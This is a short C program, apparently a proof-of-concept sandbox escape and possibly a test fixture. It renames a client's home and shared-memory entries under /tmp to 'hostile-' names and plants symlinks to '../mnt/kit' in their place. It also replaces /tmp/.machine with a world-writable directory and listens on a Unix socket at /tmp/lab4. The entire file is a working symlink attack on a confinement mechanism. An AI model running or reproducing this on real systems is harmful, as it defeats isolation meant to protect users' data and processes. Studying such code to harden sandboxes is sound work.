/* Leads the home and the shared memory of the client out of its sandbox. */
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>

#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void lead_out(const char *folder)
{
	static const char *names[] = {".home-client", "home-client", "shm"};
	char path[80], other[100];
	size_t i;

	for (i = 0; i < sizeof(names) / sizeof(*names); i++) {
		snprintf(path, sizeof(path), "%s/%s", folder, names[i]);
		snprintf(other, sizeof(other), "%s/hostile-%s", folder,
			 names[i]);
		rename(path, other);
		symlink(strlen(folder) > 5 ? "../../mnt/kit" : "../mnt/kit",
			path);
	}
}

int main(void)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	int listener = socket(AF_UNIX, SOCK_STREAM, 0);

	/* All in the folder, wherever it is: some links lead out. */
	lead_out("/tmp");
	lead_out("/tmp/.machine");
	rename("/tmp/.machine", "/tmp/.hostile-machine");
	mkdir("/tmp/.machine", 0777);
	lead_out("/tmp/.machine");
	strcpy(address.sun_path, "/tmp/lab4");
	bind(listener, (struct sockaddr *)&address, sizeof(address));
	listen(listener, 5);
	accept(listener, NULL, NULL);
	sleep(1);
	return 0;
}
